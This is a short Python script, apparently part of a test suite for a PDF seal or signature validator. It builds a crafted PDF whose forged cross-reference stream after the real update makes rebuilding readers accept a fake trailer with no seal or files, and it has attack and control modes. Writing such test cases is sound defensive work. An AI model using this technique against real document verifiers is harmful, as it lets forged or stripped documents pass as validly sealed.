# a29 R1 (stream form): the same as xref-stream-trailer.py but the update's own section is a cross-reference stream
# (object 28), and the forged /Type /XRef stream (object 27, listed by 28) comes AFTER it, before startxref: inside the
# section span [xrefStart, endOffset) that unaccountedBytes takes as accounted; strayTrailers looks only for `trailer`.
# A rebuilding reader that takes the last /XRef stream's dictionary as its trailer gets /Root 26 (no seal, no files).
#   python3 scripts/attack-s24/xref-stream-trailer2.py [attack|control] [trigger]
import re, struct, sys, zlib
mode = sys.argv[1] if len(sys.argv) > 1 else "attack"
trigger = len(sys.argv) > 2
src = open("samples/valid/archive.pdf", "rb").read()
prev = int(re.findall(rb"startxref\s+(\d+)", src)[-1])
out = bytearray(src)
root = b"26 0 R" if mode == "attack" else b"2 0 R"
o26 = len(out)
out += b"26 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n"
o28 = len(out)
ID = b"/ID [<949aabb815fcdd0b2e839e7fbfd66afe> <949aabb815fcdd0b2e839e7fbfd66afe>]"
# offset of 27 is known after 28 is written: 28's length is fixed (7 rows bytes each), so compute twice
def own(o27):
    rows = struct.pack(">BIH", 1, o26, 0) + struct.pack(">BIH", 1, o27, 0) + struct.pack(">BIH", 1, o28, 0)
    return b"28 0 obj\n<< /Type /XRef /Size 29 /W [1 4 2] /Index [26 3] /Root 2 0 R /Info 3 0 R " + ID + b" /Prev %d /Length %d >>\nstream\n" % (prev, len(rows)) + rows + b"\nendstream\nendobj\n"
o27 = o28 + len(own(0))
out += own(o27)
rows = struct.pack(">BIH", 1, o26, 0) + struct.pack(">BIH", 1, o27, 0)
out += b"27 0 obj\n<< /Type /XRef /Size 29 /W [1 4 2] /Index [26 2] /Root " + root + b" " + ID + b" /Length %d >>\nstream\n" % len(rows) + rows + b"\nendstream\nendobj\n"
out += b"startxref\n%d\n%%%%EOF\n" % (o28 + (1 if trigger else 0))
path = f"/tmp/a29-xrefstm2-{mode}{'-trigger' if trigger else ''}.pdf"
open(path, "wb").write(out)
print(path)
